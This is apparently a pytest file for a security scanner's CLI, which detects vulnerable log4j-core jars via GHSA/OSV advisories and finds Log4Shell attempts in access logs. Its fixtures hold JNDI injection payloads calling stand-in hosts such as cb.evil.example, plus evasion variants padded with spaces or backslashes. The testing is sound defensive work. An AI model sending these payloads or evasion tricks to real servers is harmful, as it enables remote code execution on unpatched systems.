"""``clearinghouse scan jars|logs`` as a user runs them (a real process): reports, the
documented exit codes, and ``--server`` against a real platform serving the GHSA records
through its OSV API."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from clearinghouse.db import Database
from clearinghouse.timeutil import FixedClock
from tests.support.advisories import AdvisoryPlatform, advisory_platform
from tests.unit.scan.damaged import damages, log4j_core_jar

LOG4SHELL = {
    "GHSA-jfh8-c2jp-5v3q",
    "GHSA-7rjr-3q55-vv33",
    "GHSA-p6xc-xr62-6r2g",
    "GHSA-8489-44mv-ggj8",
}
ATTACK = (
    '1.2.3.4 - - [10/Dec/2021] "GET /?q=%24%7Bjndi:ldap://cb.evil.example/a%7D HTTP/1.1" 200 1\n'
)


def scan(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", "from clearinghouse.cli import main; main()", "scan", *args],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )


def advisories_by_version(report: dict[str, Any]) -> dict[str, set[str]]:
    return {
        c["version"]: {a["id"] for a in c["advisories"]}
        for c in report["components"]
        if c["artifact"] == "log4j-core"
    }


@pytest.fixture
def jars(shared_data: Path) -> Path:
    return shared_data / "jars" / "log4j"


@pytest.mark.shared_data
def test_scan_jars_exits_1_on_a_vulnerable_component_and_0_without(
    jars: Path, shared_data: Path, tmp_path: Path
) -> None:
    ghsa = str(shared_data / "osv" / "ghsa")
    done = scan("jars", str(jars), "--advisories", ghsa, "--format", "json")
    assert done.returncode == 1, done.stderr
    report = json.loads(done.stdout)
    assert advisories_by_version(report) == {
        "2.14.1": LOG4SHELL,
        "2.16.0": {"GHSA-p6xc-xr62-6r2g", "GHSA-8489-44mv-ggj8"},
        "2.17.1": set(),
    }
    fixed = scan("jars", str(jars / "log4j-core-2.17.1.jar"), "--advisories", ghsa)
    assert fixed.returncode == 0, fixed.stderr
    assert "0 vulnerable" in fixed.stdout
    sarif = tmp_path / "report.sarif"
    done = scan("jars", str(jars), "--advisories", ghsa, "-f", "sarif", "-o", str(sarif))
    assert done.returncode == 1
    assert json.loads(sarif.read_text())["version"] == "2.1.0"


@pytest.mark.shared_data
def test_scan_jars_bad_arguments_exit_2(jars: Path, tmp_path: Path) -> None:
    assert scan("jars", str(tmp_path / "missing")).returncode == 2
    both = scan("jars", str(jars), "--advisories", str(tmp_path), "--server", "http://127.0.0.1:9")
    assert both.returncode == 2
    assert "not both" in both.stderr


def _damaged_corpus(directory: Path, good: bytes) -> list[str]:
    """One jar per kind of damage zipfile can meet, and a good log4j-core; the damaged names."""
    for damage in damages():
        (directory / f"{damage.name}.jar").write_bytes(damage.archive)
    (directory / "log4j-core.jar").write_bytes(good)
    return sorted(str(directory / f"{damage.name}.jar") for damage in damages())


def test_scan_jars_lists_each_damaged_archive_and_goes_on(tmp_path: Path) -> None:
    damaged = _damaged_corpus(tmp_path, log4j_core_jar("2.14.1"))
    done = scan("jars", str(tmp_path), "--format", "json")
    assert done.returncode == 0, done.stderr  # problems never change the exit code
    report = json.loads(done.stdout)
    assert [(c["purl"], c["location"]) for c in report["components"]] == [
        ("pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1", str(tmp_path / "log4j-core.jar"))
    ]
    assert sorted(p["chain"][0] for p in report["problems"]) == damaged
    assert {p["kind"] for p in report["problems"]} == {"corrupt", "encrypted"}


@pytest.mark.shared_data
def test_scan_jars_finds_the_vulnerable_jar_beside_damaged_ones(
    jars: Path, shared_data: Path, tmp_path: Path
) -> None:
    damaged = _damaged_corpus(tmp_path, (jars / "log4j-core-2.14.1.jar").read_bytes())
    ghsa = str(shared_data / "osv" / "ghsa")
    done = scan("jars", str(tmp_path), "--advisories", ghsa, "--format", "json")
    assert done.returncode == 1, done.stderr
    report = json.loads(done.stdout)
    assert advisories_by_version(report) == {"2.14.1": LOG4SHELL}
    assert sorted(p["chain"][0] for p in report["problems"]) == damaged


def test_scan_logs_exit_codes_and_reports(tmp_path: Path) -> None:
    attacked = tmp_path / "access.log"
    attacked.write_text("GET / 200\n" + ATTACK)
    clean = tmp_path / "clean.log"
    clean.write_text("GET / 200\n" * 10)
    done = scan("logs", str(attacked), "--format", "json")
    assert done.returncode == 1, done.stderr
    (finding,) = json.loads(done.stdout)["findings"]
    assert (finding["line"], finding["host"], finding["payload"]) == (
        2,
        "cb.evil.example",
        "${jndi:ldap://cb.evil.example/a}",
    )
    assert scan("logs", str(clean)).returncode == 0
    stix = scan("logs", str(attacked), "--format", "stix", "--tlp", "green")
    assert stix.returncode == 1
    bundle = json.loads(stix.stdout)
    assert {o["type"] for o in bundle["objects"]} == {"indicator", "sighting"}
    assert scan("logs", str(clean), "--tlp", "white").returncode == 2


def test_scan_logs_finds_attempts_behind_a_decoy_or_a_long_run_of_backslashes(
    tmp_path: Path,
) -> None:
    # Both hid the attempt from the 8,192 characters decoded after a line's first candidate.
    evasive = tmp_path / "evasive.log"
    decoy = "GET /?q=${x}" + " " * 9000 + "${jndi:ldap://decoy.evil.example:1389/a} 200\n"
    escaped = '{"msg":"' + "\\" * 9000 + 'u0024{jndi:rmi://escaped.evil.example/b}"}\n'
    evasive.write_text("GET / 200\n" + decoy + "GET / 200\n" + escaped)
    done = scan("logs", str(evasive), "--format", "json")
    assert done.returncode == 1, done.stderr
    found = [
        (f["line"], f["offset"], f["payload"], f["protocol"], f["host"], f["port"])
        for f in json.loads(done.stdout)["findings"]
    ]
    text = evasive.read_text()
    assert found == [
        (
            2,
            text.index("${jndi"),
            "${jndi:ldap://decoy.evil.example:1389/a}",
            "ldap",
            "decoy.evil.example",
            1389,
        ),
        (
            4,
            text.index("\\"),
            "${jndi:rmi://escaped.evil.example/b}",
            "rmi",
            "escaped.evil.example",
            None,
        ),
    ]


@pytest.fixture
def served(database: Database, clock: FixedClock, shared_data: Path) -> Iterator[AdvisoryPlatform]:
    with advisory_platform(database, clock) as platform:
        report = platform.import_osv(shared_data / "osv" / "ghsa")
        assert not report.failed, report.failed[:3]
        yield platform


@pytest.mark.shared_data
def test_scan_jars_server_asks_the_platforms_osv_api(served: AdvisoryPlatform, jars: Path) -> None:
    done = scan("jars", str(jars), "--server", f"{served.url}/osv", "--format", "json")
    assert done.returncode == 1, done.stderr
    report = json.loads(done.stdout)
    assert advisories_by_version(report) == {
        "2.14.1": LOG4SHELL,
        "2.16.0": {"GHSA-p6xc-xr62-6r2g", "GHSA-8489-44mv-ggj8"},
        "2.17.1": set(),
    }
    core = next(c for c in report["components"] if c["version"] == "2.14.1")
    log4shell = next(a for a in core["advisories"] if a["id"] == "GHSA-jfh8-c2jp-5v3q")
    assert "CVE-2021-44228" in log4shell["aliases"]
